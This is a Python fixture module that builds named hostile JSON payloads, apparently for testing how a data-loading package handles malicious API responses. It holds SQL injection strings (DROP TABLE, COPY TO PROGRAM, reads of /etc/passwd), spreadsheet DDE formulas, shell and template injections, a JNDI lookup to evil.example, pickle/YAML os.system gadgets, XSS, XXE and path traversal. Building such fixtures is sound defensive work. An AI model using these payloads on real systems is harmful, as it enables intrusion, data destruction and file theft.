"""Hostile payloads: JSON that a malicious or a broken API may send.

In: nothing. Out: payloads by name, the same in every run: values, nested values, members of an
object, primary keys, cursors, and elements of a list that are not usable records. All are JSON text
as it is sent; no payload depends on how the package reads it.

A payload that tries to write a file, a table or a schema uses the name ``OWNED``.
"""

from __future__ import annotations

import json
from collections.abc import Iterable

OWNED = "hostile_owned"
MEGABYTE = 1 << 20

_SQL = rf"""
'; DROP TABLE victim.accounts; --
'); DROP TABLE victim.accounts; --
"; DROP TABLE victim.accounts; --
' OR '1'='1
' UNION SELECT secret FROM victim.accounts --
1; DELETE FROM victim.accounts
1); DELETE FROM victim.accounts; --
\'; DROP TABLE victim.accounts; --
\\'; DROP TABLE victim.accounts; --
''; DROP TABLE victim.accounts; --
E'\'; DROP TABLE victim.accounts; --'
e'\x27; DROP TABLE victim.accounts'
U&'\0027; DROP TABLE victim.accounts'
$$; DROP TABLE victim.accounts; $$
$a$; DROP TABLE victim.accounts; $a$
$1
%(id)s
/* ' */ DROP TABLE victim.accounts; /*
*/ DROP TABLE victim.accounts; --
-- comment
# comment
;
'
''
"
""
`
\
\\
\'
\"
[victim].[accounts]
COPY victim.accounts TO '/tmp/{OWNED}'
'; COPY victim.accounts TO '/tmp/{OWNED}.csv'; --
'; COPY (SELECT 1) TO PROGRAM 'touch /tmp/{OWNED}'; --
'; COPY victim.accounts FROM PROGRAM 'touch /tmp/{OWNED}'; --
'; ATTACH '/tmp/{OWNED}.duckdb' AS stolen; CREATE TABLE stolen.t AS SELECT 1; --
'; INSTALL httpfs; LOAD httpfs; --
'; PRAGMA database_list; PRAGMA enable_profiling; --
'; SET memory_limit = '1MB'; --
'; EXPORT DATABASE '/tmp/{OWNED}'; --
'; SELECT * FROM read_csv('/etc/passwd'); --
'; CREATE SCHEMA {OWNED}; CREATE TABLE {OWNED}.t (x int); --
'; ALTER TABLE victim.accounts ADD COLUMN {OWNED} int; --
'; UPDATE victim.accounts SET secret = 'none'; --
'; TRUNCATE victim.accounts; --
'; ROLLBACK; DROP SCHEMA victim CASCADE; --
'; COMMIT; DROP SCHEMA victim CASCADE; --
'; SELECT lo_export(lo_creat(-1), '/tmp/{OWNED}'); --
'; DO $x$ BEGIN EXECUTE 'DROP TABLE victim.accounts'; END $x$; --
'; SELECT pg_sleep(600); --
'; CHECKPOINT; VACUUM FULL; --
'||(SELECT secret FROM victim.accounts)||'
DEFAULT
nextval('s')
victim.accounts
"""
_SHEETS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", '"=1+1"', "'=1+1", "=1+1;,|",
    "%0A=1+1", "\N{FULLWIDTH EQUALS SIGN}1+1",
]  # fmt: skip
_CSV = [
    "", " ", "  two  ", "\t", "\n", "\r", "\r\n", "\n\n", "a\nb", "a\r\nb", "a\rb", ",", ";", "|", "a,b", 'a"b',
    'a""b', '"a"', '"', '""', '",', ',"', '"\n"', '",\n"', "\\.", "\\.\n", "a\n\\.\nb", "\n\\.\n", "\\N", "\\n",
    "\\N\n\\N", "NULL", "null", '"NULL"', "None", "nil", "NaN", "Infinity", "undefined", "true", "false", "\\",
    "a\\", "\\,", '\\"', "a\tb", "\x1a", "\x1e\x1f", "id,t,n,x", "#", "\ufeff", "\ufeffid", "a\u2028b\u2029c", "a\x85b", "a\x0b\x0cb",
]  # fmt: skip
_SHELL = [
    "${HOME}", "$HOME", "$(touch /tmp/hostile_owned)", "`touch /tmp/hostile_owned`", "; touch /tmp/hostile_owned",
    "| touch /tmp/hostile_owned", "&& touch /tmp/hostile_owned", "> /tmp/hostile_owned", "\n touch /tmp/hostile_owned\n",
    "{{7*7}}", "{{ config.items() }}", "{% import os %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}",
    "%s", "%d%s%n", "%(x)s", "%(asctime)s", "%", "%%", "{0}", "{}", "{x}", "{0.__class__}", "{self.__init__.__globals__}",
    "!!python/object/apply:os.system ['touch /tmp/hostile_owned']", "cos\nsystem\n(S'touch /tmp/hostile_owned'\ntR.",
    "__import__('os').system('touch /tmp/hostile_owned')", 'dlt.secrets["api_key"]', "env:HOME", "$env:HOME", "~", "*", "?", "-rf", "--help",
]  # fmt: skip
_HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table>", "javascript:alert(1)", "&lt;b&gt;",
    "<!--", "<![CDATA[x]]>", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "</script><svg/onload=alert(1)>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "&#0;", "\\u003cscript\\u003e",
]  # fmt: skip
_PATHS = [
    "../../../../../../tmp/hostile_owned", "..\\..\\hostile_owned", "/tmp/hostile_owned", "/etc/passwd", "file:///etc/passwd",
    "C:\\Windows\\hostile_owned", "\\\\evil\\share\\hostile_owned", "....//....//hostile_owned", "%2e%2e%2fhostile_owned", ".", "..",
    "~/.ssh/hostile_owned", "CON", "/dev/null", "hostile_owned.parquet", "http://evil.example/hostile_owned.csv", "s3://evil/hostile_owned",
]  # fmt: skip
_TERMINAL = [
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x9b31m", "\x1bc", "\x07", "\x08\x08\x08",
    "over\rwritten", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1b[?1049h", "\x1b]52;c;aGk=\x07",
]  # fmt: skip
_UNICODE = {
    "bidi override": "\u202egnp.exe", "bidi isolate": "\u2066a\u2069", "marks": "\u200e\u200f\u061c", "zero width": "a\u200bb\u200cc\u200dd\u2060e",
    "soft hyphen": "a\u00adb", "combining": "Z" + "\u0351\u0343\u0302" * 40, "leading combining": "\u0301a", "nfc": "\u00e9", "nfd": "e\u0301",
    "ligature": "\ufb01", "angstrom": "\u212b", "kelvin": "\u212a", "dotted i": "\u0130\u0131", "sharp s": "\u1e9e\u00df", "fullwidth": "\uff21\uff07",
    "emoji": "\U0001f600", "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467", "flag": "\U0001f1e9\U0001f1ea", "skin tone": "\U0001f44d\U0001f3fd",
    "last code point": "\U0010ffff", "private use": "\ue000\U000f0000", "tags": "\U000e0041\U000e007f", "variation": "\u2764\ufe0f\ufe0e",
    "lone high": "a\ud800b", "lone low": "a\udfffb", "only high": "\udbff", "swapped": "\ude00\ud83d", "high at the end": "\U0001f600\ud83d",
    "many lone": "\ud800\ud800\udc00\udc00"[0:2] * 50, "not a character": "\ufffe\uffff", "not one, plane 1": "\U0001fffe\U0001ffff", "arabic zone": "\ufdd0",
    "replacement": "\ufffd", "marks inside": "a\ufeffb", "interlinear": "\ufff9a\ufffab\ufffb", "spaces": "\u00a0\u1680\u2000\u3000", "line separators": "\u2028\u2029",
    "nul": "\0", "nul inside": "a\0b", "nuls": "\0\0\0", "nul behind a backslash": "\\\0", "nul behind two": "\\\\\0", "written nul": "\\u0000",
    "written nul behind a backslash": "\\\\u0000", "written surrogate": "\\ud800", "nul and written nul": "\0\\u0000\0", "arabic digits": "\u0661\u0662\u0663",
    "superscript": "\u00b2", "fraction": "\u00bd", "roman": "\u2160", "zalgo SQL": "'\u0300;\u0300 DROP\u0300", "quote lookalikes": "\u02bc\u2019\uff07",
}  # fmt: skip
_NUMBERS = """
0 -0 0.0 -0.0 1 -1 1.0 -1.5 0.1 0.2 0.3 0.30000000000000004 0.1000000000000000055511151231257827021181583404541015625
1e0 1E+2 1e-2 123e5 9007199254740991 9007199254740992 9007199254740993 -9007199254740993 2147483647 2147483648 -2147483649
9223372036854775807 9223372036854775808 -9223372036854775808 -9223372036854775809 18446744073709551615 18446744073709551616
340282366920938463463374607431768211456 99999999999999999999999999999 100000000000000000000000000000
1e28 1e29 1e37 1e38 1e39 1e308 1.7976931348623157e308 1.7976931348623159e308 -1e309 1e400 1E400 1e999999999 -1E+400 1e-400 1E-400
-1e-400 1e-323 5e-324 2e-324 4.9406564584124654e-324 2.2250738585072014e-308 2.2250738585072011e-308 1e-999999999 0e999999999 0e-400
NaN Infinity -Infinity true false null
"""
_NUMBER_TEXTS = """
1e1000000 -1e1000000 1e999999999999999999999 1e-999999999 0x10 0b1 1_000 1__0 007 -007 +1 1. .5 5e 1,5 1.000,50 1/2 sNaN -nan inf -Inf 1e400 \u0663
99999999999999999999999999999.9999999999 99999999999999999999999999999.999999999 0.0000000001 123456789.123456789 1.0000000000 --1 1d 1f 1L 0o7
"""
_DATES = """
0000-01-01 0000-12-31T23:59:59Z 0001-01-01 0001-01-01T00:00:00Z 0001-01-01T00:00:00+14:00 0001-01-01T00:00:00-12:00 0001-01-01T00:00:00+00:01
9999-12-31 9999-12-31T23:59:59.999999Z 9999-12-31T23:59:59.9999999Z 9999-12-31T23:59:59-12:00 9999-12-31T23:59:59+14:00 10000-01-01
10000-01-01T00:00:00Z +10000-01-01T00:00:00Z -0001-01-01 -0044-03-15T00:00:00Z 294277-01-01T00:00:00Z 1582-10-10 1900-02-29 2000-02-29
2023-02-29 2024-02-30 2024-04-31T00:00:00Z 2024-00-10 2024-13-01 2024-01-00 2024-01-32 2016-12-31T23:59:60Z 2016-12-31T23:59:60.5Z
2024-02-29T24:00:00Z 2024-02-29T24:00:01Z 2024-02-29T25:00:00Z 2024-02-29T23:60:00Z 2024-02-29T12:00:00+14:00 2024-02-29T12:00:00-12:00
2024-02-29T12:00:00+23:59 2024-02-29T12:00:00+24:00 2024-02-29T12:00:00+99:99 2024-02-29T12:00:00-00:00 2024-03-31T02:30:00
2024-02-29T12:00:00.000000001Z 2024-02-29T12:00:00.9999999999Z 2024-02-29T12:00:00,5Z 2024-02-29T12:00:00. 2024-02-29t12:00:00z 2024-02-29T12:00Z
2024-2-9 29.02.2024 02/29/2024 2024-02-29';-- 2024-02-29'12:00:00Z 2024-02-29\U0001f4a312:00:00Z 2024-02-29\x0012:00:00 2024-02-29\ud80012:00:00
infinity -infinity epoch now today allballs tomorrow 12:00 T12:00 2024-060 2024-02 2024 1709164800 \u0662\u0660\u0662\u0664-02-29
"""
_EPOCHS = "-62135596800 -62135596801 253402300799 253402300799.999999 253402300800 1709164800.123456 1709164800123 -1 1e18"
_NAMES = [
    "", " ", "  ", ".", "..", "a.b", ".a", "a.", "o.a", "o.a.b", "$", "*", "[0]", "$.id", "ID", "Id", "iD", " id", "id ", "_extra", "_EXTRA", " _extra", "-extra", "__extra",
    "_read_at", "_Read_At", "readAt", "_deleted_at", "_deletedAt", "_dlt_load_id", "_dlt_id", "_dlt_parent_id", "_DLT_ID", "_dlt", "-dlt-id", "record_hash", "__proto__",
    "constructor", "__class__", "__dict__", "toString", "select", "table", "order", "user", "group", "from", "rowid", "ctid", "xmin", "oid", "tableoid", "filename",
    "#", "old", "new", "excluded", "'; DROP TABLE victim.accounts; --", '"; DROP TABLE victim.accounts; --', '" int, "x', '"', '""', "'", "\\", "%s", "%(x)s", "{0}", "a\nb", "a\tb",
    "\0", "a\0b", "\ud800", "\ufeff", "\u200b", "\u202e", "\u00e9", "e\u0301", "\u0130d", "\u212a", "\U0001f4a3", "1", "007", "-1", "1e400", "NaN", "null", "true", "../../tmp/hostile_owned",
    "caf\u00e9", "CamelCase", "camelCase", "camel_case", "camel-case", "t", "T", "x" * 63, "x" * 64, "x" * 65, "aB" * 31, "y" * 70_000, "'" * 300,
]  # fmt: skip


def _text(value: object) -> str:
    """JSON with unescaped characters, except in a text with surrogates, which UTF-8 cannot hold."""
    raw = json.dumps(value, ensure_ascii=False)
    return json.dumps(value) if any("\ud800" <= c <= "\udfff" for c in raw) else raw


def _numbered(family: str, texts: Iterable[str]) -> dict[str, str]:
    """JSON texts, named by their family and number."""
    return {f"{family}-{n:03}": _text(text) for n, text in enumerate(texts)}


def deep(depth: int, leaf: str, kind: str = "[") -> str:
    """Nested JSON.

    Args:
        depth: The number of levels.
        leaf: The JSON of the innermost value.
        kind: ``[`` for lists, ``{`` for objects.
    """
    before, after = ("[", "]") if kind == "[" else ('{"a":', "}")
    return before * depth + leaf + after * depth


def nested() -> dict[str, str]:
    """Values that are nested deep, but within the limit. Few JSON parsers can read them."""
    leaves = {"number": "1", "nul": '"\\u0000"', "surrogate": '"\\ud800"', "emoji": '"\U0001f600"'}
    found = {
        f"nested-{kind}{depth}-{name}": deep(depth, leaf, kind)
        for kind in ("[", "{")
        for depth in (255, 500, 900)
        for name, leaf in leaves.items()
    }
    return found | {"nested-[500-big": deep(500, str(2**70))}


def values() -> dict[str, str]:
    """JSON values by name."""
    sql = [line for line in _SQL.splitlines() if line]
    controls = [chr(c) for c in (*range(32), *range(127, 160))]
    lists = {
        "list of 10,000": _text([*range(10_000)]),
        "object of 5,000": _text({f"k{i}": i for i in range(5_000)}),
        "mixed list": '[1, 1.5, "1", true, null, {}, [], {"": ""}]',
        "empty list": "[]", "empty object": "{}", "object of nulls": '{"a": null}', "case": '{"a": 1, "A": 2}', "names of nothing": '{"": {"": {"": 1}}}',
        "nul in a name": '{"a\\u0000b": 1}', "surrogate in a name": '{"a\\ud800b": 1}', "a name twice": '{"a": 1, "a": 2}',
        "numbers in a list": "[1e400, 1e-400, -0.0, 18446744073709551616, NaN]",
        "looks like an instant": '{"$date": "2024-02-29T00:00:00Z"}',
        "escapes": '"\\/\\b\\f\\n\\r\\t\\u0041\\\\"',
        "pair of escapes": '"\\ud83d\\ude00"',
        "a megabyte": _text("x" * MEGABYTE),
        "a megabyte of quotes": _text("'" * MEGABYTE),
        "a megabyte of nuls": '"' + "\\u0000" * (MEGABYTE // 6) + '"',
        "a megabyte of emoji": _text("\U0001f4a3" * (MEGABYTE // 4)),
        "a long name": _text({"y" * MEGABYTE: 1}),
        "400 digits": "1" + "0" * 400, "4,000 digits": "7" * 4000, "4,001 digits": "7" * 4001, "5,000 digits": "-" + "7" * 5000,
        "5,000 decimals": "0." + "3" * 5000, "5,000 zeros": "0." + "0" * 5000 + "1",
    }  # fmt: skip
    return {
        **_numbered("sql", sql),
        **_numbered("sheet", _SHEETS),
        **_numbered("csv", _CSV),
        **_numbered("shell", _SHELL),
        **_numbered("html", _HTML),
        **_numbered("path", _PATHS),
        **_numbered("terminal", _TERMINAL),
        **{f"unicode {name}": _text(text) for name, text in _UNICODE.items()},
        **{f"control-{ord(c):02x}": _text(f"a{c}b") for c in controls},
        **{f"number {text}": text for text in _NUMBERS.split()},
        **_numbered("number-text", _NUMBER_TEXTS.split()),
        **_numbered("date", _DATES.split()),
        **{f"epoch {text}": text for text in _EPOCHS.split()},
        **lists,
    }


def members() -> dict[str, str]:
    """The members of an object with hostile names, as JSON without the braces."""
    single = {
        f"name-{n:03}": f'{_text(name)}: "value {n}"'
        for n, name in enumerate(_NAMES)
        if name not in {"t", "o"}
    }
    several = {
        "case": '"v": 1, "V": 2, "T": 3',
        "twice": '"v": 1, "v": 2',
        "twice, declared": '"t": "first", "t": "second"',
        "two that share a column": '"some name": 1, "some-name": 2, "someName": 3, "some.name": 4',
        "a misfit and its name": '"o": {"a": 5}, "o.a": "other"',
        "a misfit and its name, otherwise": '"o.a": {"x": 1}, "o": {"a": [1], "b": 2}',
        "an object where a text was": '"t": {"t": {"t": 1}}',
        "a text where an object was": '"o": "o.a"',
        "our own, all": '"_extra": {"_extra": 1}, "_read_at": "2999-01-01", "_deleted_at": 0, "_dlt_id": "x"',
        "5,000": ", ".join(f'"wide {i}": {i}' for i in range(5_000)),
    }
    return {**single, **several}


def keys() -> dict[str, str]:
    """Values of a primary key: each record must get a row of its own, or be rejected."""
    picked = [v for n, v in values().items() if n.startswith(("sql", "csv", "unicode", "sheet"))]
    return {
        **{f"key-{n:03}": text for n, text in enumerate(dict.fromkeys(picked))},
        **{f"key {t}": t for t in ("1", "0", "-0.0", "1.5", "1e400", "true", "false", "null", "{}", "[]")},
        "key object": '{"a": 1}',
        "key list": '["a"]',
        "key of a megabyte": _text("k" * MEGABYTE),
        "key of a megabyte, otherwise": _text("k" * (MEGABYTE - 1) + "l"),
        "cleaned a": _text("a\0"),
        "cleaned b": _text("a"),
        "cleaned c": _text("\ud800"),
        "cleaned d": _text("?"),
    }  # fmt: skip


def cursors() -> dict[str, str]:
    """Values of a cursor."""
    families = ("date", "epoch", "number", "sql-00")
    return {name: value for name, value in values().items() if name.startswith(families)}


def eras() -> dict[str, str]:
    """Well-formed instants in years that PostgreSQL and Python cannot represent."""
    texts = "0000-01-01T00:00:00Z 0000-12-31T23:59:59Z 0001-01-01T00:00:00+14:00 9999-12-31T23:59:59-12:00"
    return {f"era {text}": _text(text) for text in texts.split()}


def records() -> dict[str, str]:
    """Elements of a list of records that are not objects, or are objects without a key."""
    texts = [
        "null", "true", "0", "1e400", '""', '"id"', "[]", "[[]]", '[{"id": 1}]', "{}", '{"": 1}',
        '{"id": null}', '{"ID": 1}', '{"id": {"id": 1}}', '{"_extra": {"id": 1}}', '"\\u0000"',
        *(_text(line) for line in _SQL.splitlines()[1:5]),
    ]  # fmt: skip
    nests = {f"deep record {k}": deep(900, '"\\u0000"', k) for k in ("[", "{")}
    return {**{f"record-{n:03}": text for n, text in enumerate(texts)}, **nests}
